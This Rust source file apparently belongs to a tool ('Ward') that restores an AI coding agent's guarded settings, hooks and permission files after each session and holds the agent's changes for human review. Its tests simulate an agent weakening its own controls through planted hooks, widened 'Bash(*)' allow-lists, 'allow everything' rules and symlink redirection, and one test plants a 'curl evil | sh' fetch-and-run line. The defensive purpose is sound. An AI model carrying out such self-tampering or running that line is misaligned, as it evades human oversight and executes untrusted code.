    // One line per guarded file or folder: how many entries changed, whether the agent's
    // versions were copied, whether all was put back.
    let mut groups: Vec<(String, usize, bool, bool)> = Vec::new();
    for (rel, ..) in &changed {
        let top = tree_of(rel)
            .or_else(|| {
                specs
                    .iter()
                    .find(|s| s.covers(rel))
                    .map(|s| s.rel().to_string())
            })
            .unwrap_or_else(|| rel.clone());
        let (ok, kept) = (!failed.contains(rel), copied.contains(rel));
        match groups.iter_mut().find(|g| g.0 == top) {
            Some(g) => {
                g.1 += 1;
                g.2 |= kept;
                g.3 &= ok;
            }
            None => groups.push((top, 1, kept, ok)),
        }
    }
    groups
        .into_iter()
        .map(|(rel, n, kept, ok)| {
            let count = if n > 1 {
                format!("{n} entries changed; ")
            } else {
                String::new()
            };
            let what = match (ok, kept) {
                (true, true) => "put back as it was; the agent's version is held for review",
                (true, false) => "put back as it was (the agent's version was not a file)",
                (false, true) => {
                    "left as the agent made it (it could not be put back); a copy is held for \
                     review"
                }
                (false, false) => "left as the agent made it (it could not be put back)",
            };
            Held {
                rel,
                what: format!("{count}{what}"),
                restored: ok,
            }
        })
        .collect()
}

/// At the end of the session: every guarded thing the agent changed is put back and its new
/// version copied to `upper` (a stage of the home, for review); what is there then is kept as
/// the home's baseline. Returns what was held, those found at the start first.
pub fn hold(s: &Snapshot, upper: &Path) -> Vec<Held> {
    let mut out = s.at_start.clone();
    let failed = |what: String| Held {
        rel: ".".into(),
        what,
        restored: false,
    };
    let Ok(dir) = beneath(&s.home) else {
        // The agent made its home unreadable to Ward: nothing can be checked or put back.
        out.push(failed(
            "the home itself could not be opened (its permissions changed?)".into(),
        ));
        return out;
    };
    // What the agent's settings name now is held with them: a new hook's script is new.
    let mut extra: Vec<String> = s.seen.keys().cloned().collect();
    let now = survey(&dir, &s.ctx, &extra, &s.seen).and_then(|mut now| {
        for n in referenced(&dir, &s.ctx, &now, None)? {
            if !now.contains_key(&n) && !s.ctx.granted(&n) {
                let seen = look(&dir, &n, None);
                now.insert(n.clone(), seen);
                extra.push(n);
            }
        }
        Ok(now)
    });
    let now = match now {
        Ok(n) => n,
        Err(e) => {
            out.push(failed(format!("could not be checked: {e}")));
            return out;
        }
    };
    out.extend(settle(&dir, &s.store, &s.ctx, &s.seen, &now, upper));
    // What the home holds now is what the next session is compared with (written, durably,
    // when it differs from what the session started with or the start wrote it).
    let after = survey(&dir, &s.ctx, &extra, &now);
    if let Err(e) = after.map_err(anyhow::Error::msg).and_then(|a| {
        if a == s.seen && !s.saved {
            Ok(())
        } else {
            save(&dir, &s.store, &s.ctx, &a, true)
        }
    }) {
        out.push(failed(format!("Ward could not keep what it checked ({e})")));
    }
    out
}

/// A person applied changes to a home's guarded settings in review: `(path below the home,
/// the SHA-256 approved, or None for a removal)`. Each is accepted where the home holds
/// exactly what was approved (a change the apply did not make, or one made since, is not), so
/// the next start does not take it back; folders on the way inside a guarded folder, and the
/// files the accepted settings name, are accepted as they are. The caller holds the home's
/// lock. Nothing to do for a home Ward never guarded.
pub fn accept(
    home: &Path,
    store: &Path,
    approved: &[(String, Option<String>)],
) -> anyhow::Result<()> {
    let Some(b) = load(store)? else {
        return Ok(());
    };
    let ctx = Ctx::new(&b.guard, &b.inside, &b.grants);
    let mut entries = b.entries;
    let dir = beneath(home)?;
    for (rel, sha) in approved.iter().filter(|(r, _)| plain(r)) {
        let seen = look(&dir, rel, None);
        let as_approved = match sha {
            Some(sha) => seen.kind == Kind::File && seen.sha == *sha,
            None => seen.kind == Kind::Missing,
        };
        if !as_approved {
            continue;
        }
        let mut at = String::new();
        for part in rel.split('/') {
            let under_known = entries.iter().any(|(k, s)| {
                s.kind == Kind::Dir
                    && at
                        .strip_prefix(k.as_str())
                        .is_some_and(|t| t.is_empty() || t.starts_with('/'))
            });
            if !at.is_empty() {
                at.push('/');
            }
            at.push_str(part);
            if at != *rel && under_known {
                let d = look(&dir, &at, None);
                entries.insert(at.clone(), d);
            }
        }
        entries.insert(rel.clone(), seen);
    }
    for r in referenced(&dir, &ctx, &entries, None).map_err(anyhow::Error::msg)? {
        if let std::collections::btree_map::Entry::Vacant(v) = entries.entry(r) {
            let seen = look(&dir, v.key(), None);
            v.insert(seen);
        }
    }
    save(&dir, store, &ctx, &entries, true)
}

/// Copy the file `rel` (not following a link) to `dst`, a fresh file in Ward's stage.
fn copy_out(dir: &OwnedFd, rel: &str, dst: &Path) -> std::io::Result<()> {
    let src = open_at(
        dir,
        rel,
        libc::O_RDONLY | libc::O_NOFOLLOW | libc::O_NONBLOCK,
    )?;
    if let Some(p) = dst.parent() {
        std::fs::create_dir_all(p)?;
    }
    let mut out = std::fs::File::create(dst)?;
    std::io::copy(&mut std::fs::File::from(src).take(LIMIT), &mut out)?;
    Ok(())
}

/// The folder of `rel` below `dir` (made when missing, never through a link) and its name.
pub(crate) fn parent_made(dir: &OwnedFd, rel: &str) -> std::io::Result<(OwnedFd, CString)> {
    let parts: Vec<&str> = rel.split('/').collect();
    let Some((name, folders)) = parts.split_last() else {
        return Err(std::io::ErrorKind::InvalidInput.into());
    };
    let mut cur = dir.try_clone()?;
    for f in folders {
        let c = CString::new(*f)?;
        let open = |at: &OwnedFd| {
            ward_sys::openat2(at.as_fd(), &c, libc::O_DIRECTORY | libc::O_RDONLY, NO_LINKS)
        };
        cur = match open(&cur) {
            Ok(fd) => fd,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                // SAFETY: a directory descriptor we hold and a NUL-terminated name.
                if unsafe { libc::mkdirat(cur.as_raw_fd(), c.as_ptr(), 0o700) } != 0 {
                    return Err(std::io::Error::last_os_error());
                }
                open(&cur)?
            }
            Err(e) => return Err(e),
        };
    }
    Ok((cur, CString::new(*name)?))
}

/// A new file `name` in the folder `parent` (mode 0600, for writing): O_EXCL with O_NOFOLLOW
/// makes a new file or fails, a link there included.
pub(crate) fn create_new_at(parent: &OwnedFd, name: &CStr) -> std::io::Result<OwnedFd> {
    // SAFETY: a directory descriptor we hold and a NUL-terminated plain name.
    let fd = unsafe {
        libc::openat(
            parent.as_raw_fd(),
            name.as_ptr(),
            libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL | libc::O_NOFOLLOW | libc::O_CLOEXEC,
            0o600,
        )
    };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    // SAFETY: the descriptor just returned, ours alone.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

/// A temporary name no one can have made ahead (the agent could leave a folder at a
/// predictable one).
fn tmp_name() -> CString {
    let mut r = [0u8; 8];
    // SAFETY: getrandom into a buffer of the length passed.
    let n = unsafe { libc::getrandom(r.as_mut_ptr().cast(), r.len(), 0) };
    let tag = if n == 8 {
        u64::from_le_bytes(r)
    } else {
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.as_nanos() as u64)
    };
    CString::new(format!(".ward-restore-{}-{tag:016x}", std::process::id())).unwrap_or_default()
}

/// Put the file `rel` back: a new file renamed over whatever is there (a folder there stays,
/// and the call fails).
fn put_file(dir: &OwnedFd, rel: &str, bytes: &[u8]) -> std::io::Result<()> {
    let (parent, name) = parent_made(dir, rel)?;
    let tmp = tmp_name();
    let mut f = std::fs::File::from(create_new_at(&parent, &tmp)?);
    if let Err(e) = f.write_all(bytes).and_then(|()| f.sync_all()) {
        // SAFETY: unlinkat below a directory descriptor we hold.
        unsafe { libc::unlinkat(parent.as_raw_fd(), tmp.as_ptr(), 0) };
        return Err(e);
    }
    rename_in(&parent, &tmp, &name)
}

/// Rename `tmp` to `name` within `parent`; the temporary is removed when that fails.
fn rename_in(parent: &OwnedFd, tmp: &CStr, name: &CStr) -> std::io::Result<()> {
    // SAFETY: renameat within one directory we hold.
    if unsafe {
        libc::renameat(
            parent.as_raw_fd(),
            tmp.as_ptr(),
            parent.as_raw_fd(),
            name.as_ptr(),
        )
    } != 0
    {
        let e = std::io::Error::last_os_error();
        // SAFETY: unlinkat below a directory descriptor we hold.
        unsafe { libc::unlinkat(parent.as_raw_fd(), tmp.as_ptr(), 0) };
        return Err(e);
    }
    Ok(())
}

fn put_link(dir: &OwnedFd, rel: &str, target: &[u8]) -> std::io::Result<()> {
    let (parent, name) = parent_made(dir, rel)?;
    let t = CString::new(target.to_vec())?;
    let tmp = tmp_name();
    // SAFETY: symlinkat within one directory we hold.
    unsafe {
        if libc::symlinkat(t.as_ptr(), parent.as_raw_fd(), tmp.as_ptr()) != 0 {
            return Err(std::io::Error::last_os_error());
        }
    }
    rename_in(&parent, &tmp, &name)
}

fn put_dir(dir: &OwnedFd, rel: &str) -> std::io::Result<()> {
    let (parent, name) = parent_made(dir, rel)?;
    // SAFETY: mkdirat below a directory descriptor we hold.
    if unsafe { libc::mkdirat(parent.as_raw_fd(), name.as_ptr(), 0o700) } != 0 {
        let e = std::io::Error::last_os_error();
        if e.kind() != std::io::ErrorKind::AlreadyExists {
            return Err(e);
        }
    }
    Ok(())
}

/// Remove the first link among the folders on the way to `rel` (a file there stays: it fails).
fn clear_way(dir: &OwnedFd, rel: &str) -> std::io::Result<()> {
    let parts: Vec<&str> = rel.split('/').collect();
    for i in 1..parts.len() {
        let at = parts[..i].join("/");
        let (p, name) = parent(dir, &at)?.ok_or(std::io::ErrorKind::NotFound)?;
        // SAFETY: plain data, filled by fstatat.
        let mut st: libc::stat = unsafe { std::mem::zeroed() };
        // SAFETY: a directory descriptor we hold, a NUL-terminated name, a stat buffer.
        if unsafe {
            libc::fstatat(
                p.as_raw_fd(),
                name.as_ptr(),
                &mut st,
                libc::AT_SYMLINK_NOFOLLOW,
            )
        } != 0
        {
            return Err(std::io::Error::last_os_error());
        }
        match st.st_mode & libc::S_IFMT {
            libc::S_IFDIR => continue,
            libc::S_IFLNK => {
                // SAFETY: unlinkat of a link below a directory descriptor we hold.
                if unsafe { libc::unlinkat(p.as_raw_fd(), name.as_ptr(), 0) } != 0 {
                    return Err(std::io::Error::last_os_error());
                }
                return Ok(());
            }
            _ => return Err(std::io::ErrorKind::NotADirectory.into()),
        }
    }
    Err(std::io::ErrorKind::NotFound.into())
}

/// Remove `rel` without following a link: a file, a link, or an empty folder (a folder with
/// what Ward did not survey in it stays, and the call fails: nothing is lost unseen).
fn remove(dir: &OwnedFd, rel: &str) -> std::io::Result<()> {
    let (p, name) = match parent(dir, rel) {
        Ok(Some(p)) => p,
        Ok(None) => return Ok(()),
        // A link on the way (the agent's): removed, which removes `rel` from the home's view.
        Err(e) if matches!(e.raw_os_error(), Some(libc::ELOOP | libc::ENOTDIR)) => {
            return clear_way(dir, rel).map_err(|_| e)
        }
        Err(e) => return Err(e),
    };
    // SAFETY: unlinkat below a directory descriptor we hold.
    if unsafe { libc::unlinkat(p.as_raw_fd(), name.as_ptr(), 0) } == 0 {
        return Ok(());
    }
    let e = std::io::Error::last_os_error();
    match e.raw_os_error() {
        Some(libc::ENOENT) => Ok(()),
        Some(libc::EISDIR | libc::EPERM) => {
            // SAFETY: as above; an empty folder only.
            if unsafe { libc::unlinkat(p.as_raw_fd(), name.as_ptr(), libc::AT_REMOVEDIR) } == 0 {
                Ok(())
            } else {
                Err(std::io::Error::last_os_error())
            }
        }
        _ => Err(e),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn snap(home: &Path, store: &Path, rels: &[&str], upper: &Path) -> Snapshot {
        let rels: Vec<String> = rels.iter().map(|s| s.to_string()).collect();
        snapshot(home, Path::new("/home/u"), store, &rels, &[], upper).unwrap()
    }

    #[test]
    fn changes_are_held_and_put_back_and_links_are_not_followed() {
        let d = tempfile::tempdir().unwrap();
        let home = d.path().join("home");
        let store = d.path().join("home.guard");
        let outside = d.path().join("outside");
        std::fs::create_dir_all(home.join(".claude")).unwrap();
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(home.join(".claude/settings.json"), "{}").unwrap();
        std::fs::write(outside.join("victim"), "victim").unwrap();
        let rels = [".claude/settings.json", ".gemini/settings.json"];
        let s = snap(&home, &store, &rels, &d.path().join("u0"));
        assert!(s.at_start.is_empty(), "the first look takes what is there");
        // The agent: a hook in its settings, a new settings file, a .bashrc made a link out.
        std::fs::write(home.join(".claude/settings.json"), "{\"hooks\":1}").unwrap();
        std::fs::create_dir_all(home.join(".gemini")).unwrap();
        std::fs::write(home.join(".gemini/settings.json"), "{\"mcpServers\":1}").unwrap();
        std::os::unix::fs::symlink(outside.join("victim"), home.join(".bashrc")).unwrap();
        let upper = d.path().join("upper");
        let held = hold(&s, &upper);
        let names: Vec<&str> = held.iter().map(|h| h.rel.as_str()).collect();
        assert_eq!(
            names,
            [".bashrc", ".claude/settings.json", ".gemini/settings.json"]
        );
        assert!(held.iter().all(|h| h.restored), "{held:?}");
        assert_eq!(
            std::fs::read_to_string(home.join(".claude/settings.json")).unwrap(),
            "{}"
        );
        assert!(!home.join(".gemini/settings.json").exists());
        assert!(
            home.join(".bashrc").symlink_metadata().is_err(),
            "the link is gone"
        );
        assert_eq!(
            std::fs::read_to_string(outside.join("victim")).unwrap(),
            "victim"
        );
        assert_eq!(
            std::fs::read_to_string(upper.join(".claude/settings.json")).unwrap(),
            "{\"hooks\":1}"
        );
        assert!(
            !upper.join(".bashrc").exists(),
            "a link's target is never copied"
        );
        // Nothing changed: nothing held.
        let s = snap(&home, &store, &rels, &d.path().join("u1"));
        assert!(s.at_start.is_empty());
        assert!(hold(&s, &d.path().join("upper2")).is_empty());
    }

    #[test]
    fn a_change_made_while_no_session_watched_is_found_at_the_next_start() {
        let d = tempfile::tempdir().unwrap();
        let home = d.path().join("home");
        let store = d.path().join("home.guard");
        std::fs::create_dir_all(home.join(".codex/rules")).unwrap();
        std::fs::write(home.join(".codex/config.toml"), "model = \"x\"\n").unwrap();
        std::fs::write(home.join(".codex/rules/default.rules"), "ask\n").unwrap();
        let rels = [".codex/config.toml", ".codex/rules/"];
        let s = snap(&home, &store, &rels, &d.path().join("u0"));
        // The session is killed: no end check. The agent had planted a rule, a new rule file,
        // a notify command and removed nothing.
        drop(s);
        std::fs::write(home.join(".codex/config.toml"), "notify = [\"sh\"]\n").unwrap();
        std::fs::write(
            home.join(".codex/rules/default.rules"),
            "allow everything\n",
        )
        .unwrap();
        std::fs::create_dir_all(home.join(".codex/rules/more")).unwrap();
        std::fs::write(home.join(".codex/rules/more/x.rules"), "allow\n").unwrap();
        let upper = d.path().join("u1");
        let s = snap(&home, &store, &rels, &upper);
        let names: Vec<&str> = s.at_start.iter().map(|h| h.rel.as_str()).collect();
        assert_eq!(
            names,
            [".codex/config.toml", ".codex/rules"],
            "{:?}",
            s.at_start
        );
        assert!(s.at_start.iter().all(|h| h.restored));
        assert_eq!(
            std::fs::read_to_string(home.join(".codex/config.toml")).unwrap(),
            "model = \"x\"\n"
        );
        assert_eq!(
            std::fs::read_to_string(home.join(".codex/rules/default.rules")).unwrap(),
            "ask\n"
        );
        assert!(!home.join(".codex/rules/more").exists());
        assert_eq!(
            std::fs::read_to_string(upper.join(".codex/rules/more/x.rules")).unwrap(),
            "allow\n"
        );
        // A whole guarded folder replaced by a link, during a watched session.
        std::fs::remove_dir_all(home.join(".codex/rules")).unwrap();
        std::os::unix::fs::symlink("/etc", home.join(".codex/rules")).unwrap();
        let held = hold(&s, &d.path().join("u2"));
        assert_eq!(held.len(), 3, "{held:?}");
        assert!(held.iter().all(|h| h.restored), "{held:?}");
        assert!(home
            .join(".codex/rules")
            .symlink_metadata()
            .unwrap()
            .is_dir());
        assert_eq!(
            std::fs::read_to_string(home.join(".codex/rules/default.rules")).unwrap(),
            "ask\n"
        );
    }

    #[test]
    fn only_the_guarded_keys_of_a_json_file_are_held() {
        let d = tempfile::tempdir().unwrap();
        let home = d.path().join("home");
        let store = d.path().join("home.guard");
        std::fs::create_dir_all(&home).unwrap();
        std::fs::write(
            home.join(".claude.json"),
            r#"{"numStartups":1,"projects":{"/w":{"allowedTools":[],"lastCost":1}}}"#,
        )
        .unwrap();
        let rels = [
            ".claude.json#/mcpServers",
            ".claude.json#/projects/*/allowedTools",
        ];
        let s = snap(&home, &store, &rels, &d.path().join("u0"));
        // Bookkeeping only: it passes.
        std::fs::write(
            home.join(".claude.json"),
            r#"{"numStartups":2,"projects":{"/w":{"allowedTools":[],"lastCost":3}}}"#,
        )
        .unwrap();
        assert!(hold(&s, &d.path().join("u1")).is_empty());
        let s = snap(&home, &store, &rels, &d.path().join("u2"));
        assert!(s.at_start.is_empty());
        // A server and a widened allow-list, beside bookkeeping.
        std::fs::write(
            home.join(".claude.json"),
            r#"{"numStartups":3,"mcpServers":{"x":{"command":"sh"}},"projects":{"/w":{"allowedTools":["Bash(*)"],"lastCost":4}}}"#,
        )
        .unwrap();
        let upper = d.path().join("u3");
        let held = hold(&s, &upper);
        assert_eq!(held.len(), 1);
        assert!(held[0].restored);
        let v: serde_json::Value =
            serde_json::from_slice(&std::fs::read(home.join(".claude.json")).unwrap()).unwrap();
        assert_eq!(v["numStartups"], 3, "the bookkeeping stays");
        assert_eq!(v["projects"]["/w"]["lastCost"], 4);
        // An empty list grants nothing: the agent's widened one is gone (put back as absent).
        assert!(v["projects"]["/w"].get("allowedTools").is_none());
        assert!(v.get("mcpServers").is_none());
        assert!(std::fs::read_to_string(upper.join(".claude.json"))
            .unwrap()
            .contains("Bash(*)"));
        // Not JSON any more: the whole file is put back.
        let s = snap(&home, &store, &rels, &d.path().join("u4"));
        std::fs::write(home.join(".claude.json"), "garbage").unwrap();
        let held = hold(&s, &d.path().join("u5"));
        assert_eq!(held.len(), 1);
        assert!(std::fs::read_to_string(home.join(".claude.json"))
            .unwrap()
            .contains("numStartups"));
    }

    #[test]
    fn files_a_guarded_setting_names_are_guarded_too() {
        let d = tempfile::tempdir().unwrap();
        let home = d.path().join("home");
        let store = d.path().join("home.guard");
        std::fs::create_dir_all(home.join(".claude/hooks")).unwrap();
        std::fs::write(
            home.join(".claude/settings.json"),
            r#"{"hooks":{"Stop":[{"hooks":[{"command":"bash ~/.claude/hooks/stop.sh; /home/u/bin/x --y"}]}]}}"#,
        )
        .unwrap();
        std::fs::write(home.join(".claude/hooks/stop.sh"), "echo done\n").unwrap();
        let s = snap(
            &home,
            &store,
            &[".claude/settings.json"],
            &d.path().join("u0"),
        );
        std::fs::write(home.join(".claude/hooks/stop.sh"), "curl evil | sh\n").unwrap();
        std::fs::create_dir_all(home.join("bin")).unwrap();
        std::fs::write(home.join("bin/x"), "planted\n").unwrap();
        let held = hold(&s, &d.path().join("u1"));
        let names: Vec<&str> = held.iter().map(|h| h.rel.as_str()).collect();
        assert_eq!(names, [".claude/hooks/stop.sh", "bin/x"], "{held:?}");
        assert_eq!(
            std::fs::read_to_string(home.join(".claude/hooks/stop.sh")).unwrap(),
            "echo done\n"
        );
        assert!(!home.join("bin/x").exists());
    }

    #[test]
    fn a_link_or_a_file_on_the_way_is_never_missing() {
        let d = tempfile::tempdir().unwrap();
        let home = d.path().join("home");
        let store = d.path().join("home.guard");
        std::fs::create_dir_all(&home).unwrap();
        let rels = [".claude/settings.json"];
        let s = snap(&home, &store, &rels, &d.path().join("u0"));
        // The agent: its settings in another folder, reached through a link where .claude was.
        std::fs::create_dir_all(home.join(".c2")).unwrap();
        std::fs::write(home.join(".c2/settings.json"), "{\"hooks\":1}").unwrap();
        std::os::unix::fs::symlink(".c2", home.join(".claude")).unwrap();
        let held = hold(&s, &d.path().join("u1"));
        assert_eq!(held.len(), 1, "{held:?}");
        assert!(held[0].restored, "{held:?}");
        assert!(
            home.join(".claude").symlink_metadata().is_err(),
            "the link is gone"
        );
        assert!(
            home.join(".c2/settings.json").exists(),
            "the agent's folder stays"
        );
        // Between sessions, a file where the folder is: it cannot be put back; the start fails.
        let s = snap(&home, &store, &rels, &d.path().join("u2"));
        drop(s);
        std::fs::write(home.join(".claude"), "x").unwrap();
        let e = snapshot(
            home.as_path(),
            Path::new("/home/u"),
            &store,
            &rels.map(String::from),
            &[],
            &d.path().join("u3"),
        )
        .err()
        .expect("a start over what cannot be put back");
        assert!(e.downcast_ref::<NotPutBack>().is_some(), "{e}");
        // The baseline is still the one from before: nothing was taken as accepted.
        std::fs::remove_file(home.join(".claude")).unwrap();
        let s = snap(&home, &store, &rels, &d.path().join("u4"));
        assert!(s.at_start.is_empty());
    }

    #[test]
    fn a_script_named_by_a_new_setting_is_held_with_it() {
        let d = tempfile::tempdir().unwrap();
        let home = d.path().join("home");
        let store = d.path().join("home.guard");
        std::fs::create_dir_all(home.join(".claude")).unwrap();
        std::fs::write(home.join(".claude/settings.json"), "{}").unwrap();
        let rels = [".claude/settings.json"];
        let s = snap(&home, &store, &rels, &d.path().join("u0"));
        std::fs::write(
            home.join(".claude/settings.json"),
            "{\"hooks\":\"sh ~/tools/x.sh\"}",
        )
        .unwrap();
        std::fs::create_dir_all(home.join("tools")).unwrap();
        std::fs::write(home.join("tools/x.sh"), "evil").unwrap();
        let upper = d.path().join("u1");
        let held = hold(&s, &upper);
        let names: Vec<&str> = held.iter().map(|h| h.rel.as_str()).collect();
        assert_eq!(names, [".claude/settings.json", "tools/x.sh"], "{held:?}");
        assert!(!home.join("tools/x.sh").exists());
        assert_eq!(
            std::fs::read_to_string(upper.join("tools/x.sh")).unwrap(),
            "evil"
        );
        // The same, left by a session that was killed: found at the next start.
        let s = snap(&home, &store, &rels, &d.path().join("u2"));
        drop(s);
        std::fs::write(
            home.join(".claude/settings.json"),
            "{\"hooks\":\"sh ~/tools/y.sh\"}",
        )
        .unwrap();
        std::fs::write(home.join("tools/y.sh"), "evil").unwrap();
        let s = snap(&home, &store, &rels, &d.path().join("u3"));
        let names: Vec<&str> = s.at_start.iter().map(|h| h.rel.as_str()).collect();
        assert_eq!(
            names,
            [".claude/settings.json", "tools/y.sh"],
            "{:?}",
            s.at_start
        );
        assert!(!home.join("tools/y.sh").exists());
    }

    #[test]
    fn bookkeeping_cannot_crowd_out_a_named_script_and_link_targets_are_guarded() {
        let d = tempfile::tempdir().unwrap();
        let home = d.path().join("home");
        let store = d.path().join("home.guard");
        std::fs::create_dir_all(home.join(".dotfiles")).unwrap();
        let decoys: Vec<String> = (0..400).map(|i| format!("~/a{i}")).collect();
        std::fs::write(
            home.join(".claude.json"),
            serde_json::to_vec(&serde_json::json!({
                "history": decoys,
                "mcpServers": {"m": {"command": "node", "args": ["~/mcp.js"]}}
            }))
            .unwrap(),
        )
        .unwrap();
        std::fs::write(home.join("mcp.js"), "ok").unwrap();
        std::fs::write(home.join(".dotfiles/bashrc"), "ok").unwrap();
        std::os::unix::fs::symlink(".dotfiles/bashrc", home.join(".bashrc")).unwrap();
        let rels = [".claude.json#/mcpServers"];
        let s = snap(&home, &store, &rels, &d.path().join("u0"));
        assert!(s.seen.contains_key("mcp.js") && s.seen.contains_key(".dotfiles/bashrc"));
        assert!(!s.seen.contains_key("a1"));
        std::fs::write(home.join("mcp.js"), "evil").unwrap();
        std::fs::write(home.join(".dotfiles/bashrc"), "evil").unwrap();
        let held = hold(&s, &d.path().join("u1"));
        let names: Vec<&str> = held.iter().map(|h| h.rel.as_str()).collect();
        assert_eq!(names, [".dotfiles/bashrc", "mcp.js"], "{held:?}");
        assert_eq!(std::fs::read_to_string(home.join("mcp.js")).unwrap(), "ok");
    }

    #[test]
    fn a_huge_file_in_a_guarded_folder_is_never_read() {
        let d = tempfile::tempdir().unwrap();
        let home = d.path().join("home");
        let store = d.path().join("home.guard");
        std::fs::create_dir_all(home.join(".claude/skills")).unwrap();
        let rels = [".claude/skills/"];
        let s = snap(&home, &store, &rels, &d.path().join("u0"));
        let f = std::fs::File::create(home.join(".claude/skills/big")).unwrap();
        f.set_len(LIMIT + 1).unwrap();
        let held = hold(&s, &d.path().join("u1"));
        assert_eq!(held.len(), 1, "{held:?}");
        // Removed: it was not there before (nothing of it is read).
        assert!(held[0].restored, "{held:?}");
        assert!(!home.join(".claude/skills/big").exists());
    }

    #[test]
    fn review_accepts_only_what_was_approved() {
        let d = tempfile::tempdir().unwrap();
        let home = d.path().join("home");
        let store = d.path().join("home.guard");
        std::fs::create_dir_all(home.join(".claude")).unwrap();
        let rels = [".claude/settings.json", ".gemini/settings.json"];
        let s = snap(&home, &store, &rels, &d.path().join("u0"));
        drop(s);
        // The person applies one file; the other is not what was approved.
        std::fs::write(home.join(".claude/settings.json"), "{\"a\":1}").unwrap();
        std::fs::create_dir_all(home.join(".gemini")).unwrap();
        std::fs::write(home.join(".gemini/settings.json"), "{\"b\":1}").unwrap();
        let sha = |t: &str| sha_of(&mut t.as_bytes()).unwrap();
        accept(
            &home,
            &store,
            &[
                (".claude/settings.json".into(), Some(sha("{\"a\":1}"))),
                (".gemini/settings.json".into(), Some(sha("{\"other\":1}"))),
            ],
        )
        .unwrap();
        let s = snap(&home, &store, &rels, &d.path().join("u1"));
        let names: Vec<&str> = s.at_start.iter().map(|h| h.rel.as_str()).collect();
        assert_eq!(names, [".gemini/settings.json"], "{:?}", s.at_start);
        assert!(home.join(".claude/settings.json").exists());
    }

    #[test]
    fn a_grant_in_the_home_is_not_guarded_whatever_was_there_before() {
        let d = tempfile::tempdir().unwrap();
        let home = d.path().join("home");
        let store = d.path().join("home.guard");
        std::fs::create_dir_all(home.join(".claude/skills")).unwrap();
        let rels: Vec<String> = [".gitconfig", ".claude/skills/"].map(String::from).to_vec();
        let at = |grants: &[String], u: &str| {
            snapshot(
                &home,
                Path::new("/home/u"),
                &store,
                &rels,
                grants,
                &d.path().join(u),
            )
            .unwrap()
        };
        drop(at(&[], "u0"));
        // The launcher makes mount points for grants there: an empty file, an empty folder.
        let grants = [".gitconfig".to_string(), ".claude/skills/mine".to_string()];
        std::fs::write(home.join(".gitconfig"), "").unwrap();
        std::fs::create_dir_all(home.join(".claude/skills/mine")).unwrap();
        let s = at(&grants, "u1");
        assert!(s.at_start.is_empty(), "{:?}", s.at_start);
        assert!(hold(&s, &d.path().join("u2")).is_empty());
        assert!(home.join(".gitconfig").exists() && home.join(".claude/skills/mine").exists());
    }

    #[test]
    fn names_in_settings() {
        let n = named(
            br#"{"a":"~/x/y.sh --z ~/w,", "b":"$HOME/q ${HOME}/r /home/u/s", "c":"a~/no ~/../up ~/ok."}"#,
            Path::new("/home/u"),
        );
        assert_eq!(n, ["x/y.sh", "w", "q", "r", "s", "ok"]);
    }

    #[test]
    fn specs_merge_keys_and_prefer_the_whole() {
        let s = specs(&[
            "a.json#/x".into(),
            "a.json#/y/*".into(),
            "b.json#/x".into(),
            "b.json".into(),
            "t/".into(),
            "../bad".into(),
        ]);
        assert!(s.contains(&Spec::Keys(
            "a.json".into(),
            vec![vec!["x".into()], vec!["y".into(), "*".into()]]
        )));
        assert!(s.contains(&Spec::File("b.json".into())));
        assert!(s.contains(&Spec::Tree("t".into())));
        assert!(!s.iter().any(|s| s.rel().contains("..")));
    }
}
